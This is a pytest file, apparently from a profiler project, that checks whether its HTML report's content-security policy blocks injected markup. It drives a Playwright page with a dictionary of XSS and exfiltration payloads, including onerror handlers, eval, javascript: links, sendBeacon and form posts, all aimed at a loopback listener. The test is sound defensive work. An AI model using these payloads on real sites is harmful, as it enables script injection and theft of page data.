"""The report's content-security policy: even if markup of a profiled program got in, it could do nothing."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.profiles import orders_profile
from tests.report_pages import Reports


class Listener(BaseHTTPRequestHandler):
    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"window.hacked = 'by ' + 1")

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on loopback and the paths that it was asked for."""
    heard: list[str] = []
    handler = type("Handler", (Listener,), {"heard": heard})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", heard
        finally:
            server.shutdown()
            thread.join()


# Each way by which text that got into the page as markup could run, or could send away what the page knows.
ATTACKS = {
    "inline script": "add('script', {text: 'window.hacked = 1'})",
    "script by text node": "const s = document.createElement('script');"
    " s.append('window.hacked = 1'); document.body.append(s)",
    "script from a server": "add('script', {src: address})",
    "markup": "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
    "parsed markup": "document.body.append(...new DOMParser().parseFromString("
    "'<img src=x onerror=window.hacked=1>', 'text/html').body.childNodes)",
    "handler": "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    "eval": "window.eval('window.hacked = 1')",
    "function": "new Function('window.hacked = 1')()",
    "timer": "setTimeout('window.hacked = 1')",
    "address": "const a = add('a', {href: 'javascript:window.hacked=1'}); a.click()",
    "frame": "add('iframe', {src: address}); add('iframe', {srcdoc: '<script>top.hacked=1</script>'})",
    "object": "add('object', {data: address}); add('embed', {src: address})",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`' + address + '`)'])))",
    "fetch": "fetch(address).catch(() => {})",
    "beacon": "navigator.sendBeacon(address, 'secret')",
    "socket": "new WebSocket(address.replace('http', 'ws')); new EventSource(address)",
    "image": "new Image().src = address; add('video', {src: address})",
    "style sheet": "add('link', {rel: 'stylesheet', href: address})",
    "inline style": "add('style', {textContent: '@import url(' + address + ')'})",
    "style attribute": "document.body.setAttribute('style', 'background: url(' + address + ')')",
    "font": "const f = new FontFace('f', 'url(' + address + ')'); f.load().catch(() => {})",
    "form": "const f = add('form', {action: address, method: 'post'}); f.submit()",
    "base": "add('base', {href: address}); add('img', {src: 'relative.png'})",
}
ATTACK = """(address) => {
  const add = (name, values) => {
    const element = Object.assign(document.createElement(name), values);
    document.body.append(element);
    return element;
  };
  // From a timer: what a debugger evaluates is free of the policy, as far as `eval` goes.
  setTimeout(() => { try { ATTACK } catch { } });
}"""


def attacked(page: Page, attack: str, address: str) -> None:
    """Carries an attack out; whether it raises is its own affair."""
    page.evaluate(ATTACK.replace("ATTACK", attack), address)
    page.wait_for_timeout(50)


def test_the_policy_holds_where_markup_gets_in(
    report: Reports, listener: tuple[str, list[str]]
) -> None:
    """As if the page had a hole: even then nothing of it runs, and nothing leaves."""
    address, heard = listener
    page = report(orders_profile())
    here = page.url
    for name, attack in ATTACKS.items():
        attacked(page, attack, f"{address}/{name}")
        assert page.evaluate("() => window.hacked") is None, name
        assert page.url == here, name
    page.wait_for_timeout(500)  # for what takes its time
    assert page.evaluate("() => window.hacked") is None
    assert heard == []
    report.expected()


@pytest.mark.parametrize(
    "attack", ["inline script", "image", "fetch", "eval", "markup", "socket", "form", "frame"]
)
def test_without_the_policy_the_same_would_succeed(
    report: Reports, listener: tuple[str, list[str]], attack: str
) -> None:
    """Or else the test above would show nothing."""
    address, heard = listener
    bare = "<!doctype html><title>x</title><p>x</p><script>greenprofReport = {ready: true}</script>"
    page = report(bare)
    attacked(page, ATTACKS[attack], address)
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.hacked") or heard
    report.expected()
